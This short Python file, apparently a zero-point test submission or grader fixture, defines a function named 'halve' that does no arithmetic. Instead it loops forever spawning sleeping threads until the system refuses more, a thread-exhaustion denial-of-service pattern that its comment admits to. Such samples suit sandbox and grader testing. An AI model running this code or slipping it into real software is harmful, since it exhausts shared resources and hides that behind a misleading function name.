# points: 0
# It starts threads until it may not.
import threading, time


def halve(number):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
